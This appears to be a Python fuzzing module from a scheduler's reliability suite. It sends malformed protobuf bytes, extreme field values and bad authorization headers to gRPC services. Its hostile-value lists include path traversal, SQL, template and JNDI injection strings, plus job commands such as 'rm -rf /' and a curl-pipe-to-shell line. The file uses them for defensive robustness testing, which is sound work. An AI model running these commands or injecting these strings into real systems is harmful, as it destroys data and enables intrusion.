"""Hostile input: seeded undecodable bytes, hostile field values and hostile metadata, sent raw to each service.

Undecodable payloads (random, truncated, invalid UTF-8, huge length prefixes, deeply nested groups), valid messages
with hostile values (huge and odd strings, NaN/inf, extreme numbers, unknown enums, 10,000-entry repeated fields) and,
on the allocator, hostile ``authorization`` metadata. Per service a status-code histogram: UNKNOWN must be 0; every
INTERNAL is printed and must carry an incident id. Request ``i`` of a service comes from ``(seed, service, i)``, so a
run is repeatable request by request. Job commands only ever go with tenant tokens that may run none, so the probe
never makes the cluster run a command; the hostile jobs the allocator accepts are cancelled after the phase.
"""

from __future__ import annotations

import math
import random
import threading
import time
import uuid
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field

import grpc

from bench.reliability.live import CHANNEL_OPTIONS, TENANTS, Run, say, section
from elastico.v1 import allocator_pb2 as apb
from elastico.v1 import allocator_pb2_grpc
from elastico.v1 import node_agent_pb2 as npb
from elastico.v1 import predictor_pb2 as qpb
from elastico.v1 import pricer_pb2 as ppb
from elastico.v1 import types_pb2 as tpb

NOWHERE = "reliability-nowhere"  # a node id no node has: most hostile jobs that get accepted can never be placed


@dataclass
class Call:
    """One raw request: method path, payload bytes (sent as they are), metadata, and whether it streams."""

    method: str
    payload: bytes
    metadata: tuple[tuple[str, str], ...] | None = None
    stream: bool = False
    timeout: float = 5.0


class Hostile:
    """Hostile values and undecodable payloads, from one seeded generator (the run is repeatable)."""

    def __init__(self, rng: random.Random) -> None:
        self.r = rng

    # --- values ------------------------------------------------------------------------------------
    def string(self) -> str:
        return self.r.choice([
            "", " ", "x" * 10_000, "é" * 5_000, "\u202e\u0000\ufeff\ufffd",
            "../../../../etc/passwd", "' OR 1=1 --", "%s%n%x", "{{7*7}}", "${jndi:ldap://x}", "\n\r\t", "*", "-1",
            "a" * 129, "A" * 64, "ok-" + uuid.UUID(int=self.r.getrandbits(128)).hex, "🚀" * 1000, "\x00" * 64,
            "node-1", "team-a", "v100", "ResNet-50", "x" * self.r.randint(1, 300),
        ])

    def double(self) -> float:
        return self.r.choice([math.nan, math.inf, -math.inf, -1.0, -0.0, 0.0, 5e-324, 1e-300, 1e308, -1e308, 100.0000001,
                              1e9, 0.5, 50.0, 100.0, self.r.uniform(-1e6, 1e6)])

    def u32(self) -> int:
        return self.r.choice([0, 1, 2, 7, 1024, 1025, 65535, 2**31 - 1, 2**31, 2**32 - 1, self.r.getrandbits(32)])

    def u64(self) -> int:
        return self.r.choice([0, 1, 2**53 + 1, 2**63 - 1, 2**63, 2**64 - 1, self.r.getrandbits(64), self.r.getrandbits(16)])

    def i32(self) -> int:
        return self.r.choice([0, -1, 1, -2**31, 2**31 - 1, self.r.randint(-1000, 1000)])

    def enum(self) -> int:
        return self.r.choice([0, 1, 2, 3, 4, 5, 6, 7, 12, 13, 99, -1, 2**31 - 1, -2**31])

    def many(self, hostile, plain, p_big: float = 0.05, big: int = 10_000) -> list:
        """A repeated field: usually a few hostile items, sometimes ``big`` plain (short) ones. Never both: a
        request stays well under the servers' 64 MiB limit and quick to build."""
        if self.r.random() < p_big:
            return [plain() for _ in range(big)]
        return [hostile() for _ in range(self.r.choice([0, 0, 1, 1, 2, 3]))]

    def id(self) -> str:
        return self.r.choice(["x" * 10_000, self.string(), f"job-{self.r.getrandbits(40):x}", "", "-", "a" * 128, "a" * 129])

    def short_id(self) -> str:
        return f"j-{self.r.getrandbits(32):x}"

    # --- undecodable bytes -------------------------------------------------------------------------
    def garbage(self, valid: bytes) -> bytes:
        r = self.r
        kind = r.randrange(9)
        if kind == 0:
            return r.randbytes(r.randint(1, 64))
        if kind == 1:
            return r.randbytes(r.randint(65, 4096))
        if kind == 2 and len(valid) > 1:
            return valid[:r.randrange(1, len(valid))]  # truncated
        if kind == 3:
            return b"\x0a\x06\xff\xfe\xc0\xaf\xed\xa0"  # field 1 (a string everywhere it is used) with invalid UTF-8
        if kind == 4:
            return b"\x12\x01"  # field 2 as a 1-byte length with nothing after it
        if kind == 5:
            return b"\x12\xff\xff\xff\xff\x0f" + r.randbytes(8)  # a length prefix of 4 GiB
        if kind == 6:
            return b"\x9b\x06" * r.choice([200, 10_000, 100_000])  # start-group of field 99, nested deeply, never closed
        if kind == 7:
            return b"\x08" + b"\xff" * 11  # an over-long varint
        return valid + r.randbytes(r.randint(1, 32))  # trailing garbage after a valid message

    # --- messages ----------------------------------------------------------------------------------
    def shape(self) -> tpb.Shape:
        return tpb.Shape(num_gpus=self.u32(), compute_share_pct=self.double(), mem_mib=self.u64(), batch_size=self.u32(),
                         gpu_type=self.string(), throughput=self.double())

    def spec(self, tenant: str | None = None, command: bool = False, pinned: bool = True) -> tpb.JobSpec:
        """A spec of hostile values everywhere; ``pinned``: allowed on no existing node (accepted, never placed)."""
        r = self.r
        s = tpb.JobSpec(name=self.string(), tenant=tenant if tenant is not None else r.choice([self.string(), "team-a", "team-b"]),
                        priority=self.i32(), kind=self.enum(), model_family=r.choice([self.string(), "ResNet-18", "BERT"]),
                        batch_size=self.u32(), precision=self.string())
        s.shapes.extend(self.many(self.shape, lambda: tpb.Shape(num_gpus=1, compute_share_pct=self.double(), mem_mib=1),
                                  p_big=0.05))
        which = r.randrange(4)
        if which == 0:
            s.training.CopyFrom(tpb.TrainingWork(total_steps=self.u64(), max_slowdown=self.double()))
        elif which == 1:
            s.inference.CopyFrom(tpb.InferenceWork(demand_rps=self.double(), latency_slo_ms=self.double()))
        for i, (k, v) in enumerate(self.many(lambda: (self.string(), self.string()), lambda: (f"k{r.getrandbits(40)}", "v"))):
            s.labels[k[:5000] + str(i)] = v
        s.allowed_nodes.extend(self.many(self.string, lambda: f"n{r.getrandbits(24)}") + ([NOWHERE] if pinned else []))
        if command:
            s.command = r.choice(["rm -rf /", "sh -c 'curl x | sh'", "/bin/true", "\x00", "x" * 10_000, "'unbalanced"])
        return s

    def perturbed_spec(self, tenant: str, pinned: bool) -> tpb.JobSpec:
        """A well-formed spec with one field made hostile: most get past the first checks, some are accepted."""
        r = self.r
        s = tpb.JobSpec(name="ok", tenant=tenant, kind=tpb.JOB_KIND_TRAINING, model_family="ResNet-18", batch_size=64,
                        training=tpb.TrainingWork(total_steps=r.choice([1, 100, 10_000])))
        k = r.randrange(12)
        if k == 0:
            s.name = self.string()
        elif k == 1:
            s.model_family = self.string()
        elif k == 2:
            s.batch_size = self.u32()
        elif k == 3:
            s.priority = self.i32()
        elif k == 4:
            s.precision = self.string()
        elif k == 5:
            s.training.total_steps = self.u64()
        elif k == 6:
            s.training.max_slowdown = self.double()
        elif k == 7:
            s.shapes.append(self.shape())
        elif k == 8:
            s.shapes.append(tpb.Shape(num_gpus=r.choice([1, 2, 4, 8, 1024]), compute_share_pct=r.choice([1, 25, 50, 100, 0.01]),
                                      mem_mib=r.choice([1, 4096, 16384, 16385, 2**40]), gpu_type=r.choice(["", "v100", "h200"])))
        elif k == 9:
            s.kind = tpb.JOB_KIND_INFERENCE
            s.inference.CopyFrom(tpb.InferenceWork(demand_rps=self.double(), latency_slo_ms=self.double()))
        elif k == 10:
            s.labels[self.string()[:5000]] = self.string()
        else:
            s.allowed_nodes.append(self.string())
        if pinned:
            s.allowed_nodes.append(NOWHERE)
        return s


ALLOC = "/elastico.v1.Allocator/"
PRICER = "/elastico.v1.Pricer/ComputeAllocation"
PREDICTOR = "/elastico.v1.Predictor/"
AGENT = "/elastico.v1.NodeAgent/"


def allocator_call(h: Hostile, run: Run) -> Call:
    """One hostile request for the allocator: a quarter undecodable, a fifth with hostile authorization metadata,
    a tenth from a tenant token (another tenant's spec, a command it may not run, hostile values as itself)."""
    r = h.r
    op = (("authorization", f"Bearer {run.operator_token}"),)
    k = r.random()
    if k < 0.50:
        pinned = r.random() < 0.8  # the rest may get placed and run (they are cancelled after the phase)
        spec = h.spec(pinned=pinned) if r.random() < 0.5 else h.perturbed_spec(r.choice(TENANTS), pinned)
        req = apb.SubmitJobRequest(request_id=r.choice([f"hostile-{r.getrandbits(64):x}"] * 3 + [h.id()]), spec=spec)
        method, payload, stream, timeout = "SubmitJob", req.SerializeToString(), False, 5.0
    elif k < 0.62:
        method, payload, stream, timeout = "CancelJob", apb.CancelJobRequest(job_id=h.id()).SerializeToString(), False, 5.0
    elif k < 0.77:
        method, payload, stream, timeout = "GetJob", apb.GetJobRequest(job_id=h.id()).SerializeToString(), False, 5.0
    elif k < 0.86:
        req = apb.ListJobsRequest(tenant=r.choice(["", "team-a", h.string()]), page_size=h.u32(),
                                  page_token=r.choice(["", "1", "-1", "abc", "9" * 400, "1e999", h.string()]))
        req.states.extend(h.many(h.enum, h.enum, p_big=0.1))
        method, payload, stream, timeout = "ListJobs", req.SerializeToString(), False, 5.0
    elif k < 0.94:
        req = apb.WatchJobsRequest(after_event_id=r.choice(["", "0", "$", "-", "1-1", "99999999999999-0", "x" * 10_000,
                                                            "\u0661\u0662\u0663", h.string()]))
        req.job_ids.extend(h.many(h.id, h.short_id, p_big=0.1))
        method, payload, stream, timeout = "WatchJobs", req.SerializeToString(), True, 0.5
    else:
        method, payload, stream, timeout = "GetClusterState", b"" if r.random() < 0.5 else h.garbage(b"")[:8], False, 5.0
    k = r.random()
    if k < 0.25:  # garbage may decode into any field, spec.command too: a submission goes with a tenant token (no commands)
        payload = h.garbage(payload)
        md = (("authorization", f"Bearer {run.tenant_tokens[r.choice(TENANTS)]}"),) if method == "SubmitJob" else op
    elif k < 0.45:
        md = r.choice([None, (("authorization", "Bearer garbage"),), (("authorization", "garbage"),),
                       (("authorization", "Bearer "),), (("authorization", "Basic dXNlcjpwYXNz"),),
                       (("authorization", "Bearer " + "x" * 4000),), (("authorization", "bearer " + run.operator_token),),
                       op + op, op + (("authorization", "Bearer garbage"),), (("authorization", f"Bearer {run.operator_token}x"),),
                       (("authorization", f"Bearer  {run.operator_token} "),),
                       (("x-elastico-tenant", "team-a"), ("authorization", "Bearer elastico_" + "A" * 43))])
    elif k < 0.55:
        t = r.choice(TENANTS)
        md = (("authorization", f"Bearer {run.tenant_tokens[t]}"),)
        if method == "SubmitJob":
            payload = apb.SubmitJobRequest(request_id=f"hostile-{r.getrandbits(64):x}",
                                           spec=h.spec(tenant=r.choice([t, "team-a", "team-b", h.string()]),
                                                       command=r.random() < 0.5)).SerializeToString()
    else:
        md = op
    return Call(ALLOC + method, payload, md, stream, timeout)


def pricer_call(h: Hostile) -> Call:
    """Hostile values everywhere; at most one dimension (pools, jobs, shapes per job, demand length) large."""
    r = h.r
    req = ppb.ComputeAllocationRequest(max_iterations=h.u32(), gap_tolerance=h.double())
    big = r.choice(["pools", "jobs", "shapes", "demand"]) if r.random() < 0.1 else ""
    pools = 10_000 if big == "pools" else r.choice([0, 1, 1, 2, 3, 4])
    for i in range(pools):
        req.pools.add(name=r.choice([f"p{i}", f"p{i}", f"p{i}", h.string(), "p0"]) if pools < 100 else f"p{i}",
                      capacity=h.double() if pools < 100 else 1.0)
    for i in range(10_000 if big == "jobs" else r.choice([0, 1, 2, 5, 20, 50])):
        j = req.jobs.add(job_id=(r.choice([f"j{i}", f"j{i}", h.id(), "j0"]) if big != "jobs" else f"j{i}"))
        for _ in range(10_000 if big == "shapes" and i == 0 else r.choice([0, 1, 2, 3])):
            dims = 10_000 if big == "demand" and i == 0 else r.choice([pools, pools, pools + 1, max(0, pools - 1)])
            j.shapes.add(utility=h.double(), demand=[h.double() for _ in range(dims)] if dims < 100 else [1.0] * dims)
    req.warm_start_prices.extend(h.double() for _ in range(r.choice([0, pools, pools + 3]) if pools < 100 else pools))
    payload = req.SerializeToString()
    return Call(PRICER, h.garbage(payload) if r.random() < 0.25 else payload, None, False, 2.0)


def _profile(h: Hostile) -> qpb.TaskProfile:
    r = h.r
    p = qpb.TaskProfile(job_id=h.id()[:2000], model_family=r.choice([h.string(), "ResNet-50", "BERT"]), batch_size=h.u32(),
                        precision=h.string(), kind=h.enum(), gpu_type=r.choice([h.string(), "v100", "k80"]),
                        mps_share_pct=h.double())
    if r.random() < 0.5:
        p.counters.CopyFrom(tpb.GpuCounters(sm_util_pct=h.double(), mem_bw_util_pct=h.double(), mem_used_mib=h.double(),
                                            tensor_util_pct=h.double()))
    return p


def predictor_call(h: Hostile) -> Call:
    r = h.r
    k = r.random()
    if k < 0.55:
        req = qpb.PredictInterferenceRequest()
        count = r.choice([0, 1, 2, 16, 10_000, 10_001]) if r.random() < 0.1 else r.randint(1, 8)
        plain = qpb.PairQuery(a=qpb.TaskProfile(model_family="ResNet-50", batch_size=r.choice([0, 64]), gpu_type="v100",
                                                mps_share_pct=h.double()),
                              b=qpb.TaskProfile(model_family=r.choice(["BERT", "?"]), batch_size=32, kind=h.enum()))
        req.pairs.extend(plain if count > 16 else qpb.PairQuery(a=_profile(h), b=_profile(h)) for _ in range(count))
        method, payload = "PredictInterference", req.SerializeToString()
    elif k < 0.85:
        req = qpb.ReportObservationRequest()
        count = r.choice([0, 1, 2, 3, 10_000, 10_001]) if r.random() < 0.1 else r.randint(1, 3)
        for _ in range(count):
            if count > 3:
                req.observations.add(a=qpb.TaskProfile(model_family="ResNet-50", gpu_type="v100"),
                                     b=qpb.TaskProfile(model_family="BERT"), norm_tput_a=h.double(), norm_tput_b=0.5)
            else:
                req.observations.add(a=_profile(h), b=_profile(h), norm_tput_a=h.double(), norm_tput_b=h.double(),
                                     node_id=h.string(), time_unix_s=h.double())
        method, payload = "ReportObservation", req.SerializeToString()
    else:
        method, payload = "GetModelInfo", b""
    return Call(PREDICTOR + method, h.garbage(payload) if r.random() < 0.25 else payload, None, False, 5.0)


def agent_call(h: Hostile) -> Call:
    r = h.r
    k = r.random()
    timeout = 5.0
    if k < 0.3:
        method, payload = "GetNodeStatus", b""
    elif k < 0.4:  # a generation far ahead is waited for (bounded): a short deadline keeps the probe moving
        method, timeout = "Sync", 1.0
        payload = npb.SyncRequest(min_generation=r.choice([0, 1, 2**64 - 1, h.u64()])).SerializeToString()
    else:
        req = npb.ListWorkloadsRequest()
        req.job_ids.extend(h.many(h.id, h.short_id, p_big=0.1))
        req.statuses.extend(h.many(lambda: r.choice(["running", "starting", "killed", h.string()]), lambda: "running", p_big=0.1))
        method, payload = "ListWorkloads", req.SerializeToString()
    return Call(AGENT + method, h.garbage(payload) if r.random() < 0.25 else payload, None, False, timeout)


@dataclass
class HostileResult:
    codes: Counter = field(default_factory=Counter)
    internal: list[str] = field(default_factory=list)  # details of INTERNAL and UNKNOWN answers
    example: dict[str, str] = field(default_factory=dict)  # code -> one (method, details) seen with it
    longest: tuple[int, str] = (0, "")  # the longest status message (chars, method): are hostile values echoed?
    sent_bytes: int = 0
    created: list[str] = field(default_factory=list)  # job ids the allocator accepted (cancelled afterwards)
    seconds: float = 0.0


def fire(channel: grpc.Channel, make: Callable[[int], Call], n: int, threads: int = 16) -> HostileResult:
    """Build (``make(i)``) and send calls 0..n-1, ``threads`` at a time, with identity (de)serializers: the probe
    chooses every byte of the request. Returns the status-code histogram."""
    res = HostileResult()
    lock = threading.Lock()
    ident = lambda b: b  # noqa: E731

    def one(i: int) -> None:
        c = make(i)
        with lock:
            res.sent_bytes += len(c.payload)
        details, body = "", None
        try:
            if c.stream:
                for _ in channel.unary_stream(c.method, request_serializer=ident, response_deserializer=ident)(
                        c.payload, timeout=c.timeout, metadata=c.metadata):
                    pass
            else:
                body = channel.unary_unary(c.method, request_serializer=ident, response_deserializer=ident)(
                    c.payload, timeout=c.timeout, metadata=c.metadata)
            code = grpc.StatusCode.OK
        except grpc.RpcError as exc:
            code, details = exc.code(), exc.details() or ""
        with lock:
            res.codes[code.name] += 1
            res.example.setdefault(code.name, f"{c.method.rsplit('/', 1)[-1]}: {details[:160]}")
            if len(details) > res.longest[0]:
                res.longest = (len(details), f"{c.method.rsplit('/', 1)[-1]} {code.name}: {details[:100]}...")
            if code in (grpc.StatusCode.INTERNAL, grpc.StatusCode.UNKNOWN):
                res.internal.append(f"{c.method.rsplit('/', 1)[-1]} {code.name}: {details[:300]}")
            if body is not None and c.method.endswith("/SubmitJob"):
                resp = apb.SubmitJobResponse.FromString(body)
                if resp.created:
                    res.created.append(resp.job.job_id)

    t0 = time.perf_counter()
    with ThreadPoolExecutor(threads) as pool:
        list(pool.map(one, range(n)))
    res.seconds = time.perf_counter() - t0
    return res


def hostile_input(run: Run, n: int, seed: int) -> dict[str, HostileResult]:
    """Section 1: N hostile requests per service; histograms printed; accepted hostile jobs cancelled."""
    section(f"1. hostile input: {n} requests per service (undecodable bytes, hostile field values, "
        f"hostile authorization metadata on the allocator)")
    plan = {"allocator": lambda h: allocator_call(h, run), "pricer": pricer_call, "predictor": predictor_call,
            "node-1": agent_call}
    out: dict[str, HostileResult] = {}
    tls = run.cert_only()
    for service, build in plan.items():
        def make(i: int, build=build, service=service) -> Call:  # request i of a service is the same in every run
            return build(Hostile(random.Random(f"{seed}:{service}:{i}")))

        with tls.channel(run.addr(service), options=CHANNEL_OPTIONS) as ch:
            res = out[service] = fire(ch, make, n)
        rest = " ".join(f"{k}={v}" for k, v in sorted(res.codes.items()) if k not in ("UNKNOWN", "INTERNAL"))
        say(f"hostile {service}: n={sum(res.codes.values())} UNKNOWN={res.codes['UNKNOWN']} INTERNAL={res.codes['INTERNAL']} "
            f"| {rest}  ({res.sent_bytes / 2**20:.0f} MiB in {res.seconds:.1f} s, {sum(res.codes.values()) / max(res.seconds, 1e-9):.0f} req/s)")
        for code in sorted(set(res.codes) - {"OK", "INVALID_ARGUMENT", "UNAUTHENTICATED", "NOT_FOUND", "UNKNOWN", "INTERNAL"}):
            say(f"    e.g. {code}: {res.example[code]}")
        if res.longest[0] > 1000:
            say(f"    longest status message {res.longest[0]} chars ({res.longest[1]})")
        for d in res.internal[:10]:
            say(f"    {d}  [incident id: {'yes' if 'incident' in d else 'NO'}]")
        if len(res.internal) > 10:
            say(f"    ... {len(res.internal) - 10} more")
    created = out["allocator"].created
    cancelled = Counter()
    with run.operator().channel(run.addr("allocator"), options=CHANNEL_OPTIONS) as ch:
        stub = allocator_pb2_grpc.AllocatorStub(ch)
        for job_id in created:
            try:
                stub.CancelJob(apb.CancelJobRequest(job_id=job_id), timeout=10)
                cancelled["CANCELLED"] += 1
            except grpc.RpcError as exc:
                cancelled[exc.code().name] += 1
    say(f"hostile jobs the allocator accepted: {len(created)} (cancelled afterwards: "
        f"{', '.join(f'{k} {v}' for k, v in sorted(cancelled.items())) or 'none'})")
    return out
